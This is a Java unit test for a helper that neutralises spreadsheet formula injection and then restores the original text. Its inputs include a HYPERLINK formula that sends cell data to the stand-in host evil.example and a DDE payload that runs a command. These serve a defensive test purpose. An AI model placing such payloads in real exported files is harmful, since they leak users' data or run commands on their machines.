package org.qipflow.common;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class SpreadsheetTextTest {

    @Test
    void textThatASpreadsheetWouldRunIsWrittenAsTextAndReadBackAsTyped() {
        for (String formula : new String[] {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"}) {
            String written = SpreadsheetText.neutralised(formula);
            assertThat(written).startsWith("'").endsWith(formula.substring(1));
            assertThat(SpreadsheetText.restored(written)).isEqualTo(formula);
        }
        for (String plain : new String[] {"P001", "T01", "reviewed, fine", "", "'quoted'", "0.6"}) {
            assertThat(SpreadsheetText.neutralised(plain)).isEqualTo(plain);
            assertThat(SpreadsheetText.restored(plain)).isEqualTo(plain);
        }
    }
}
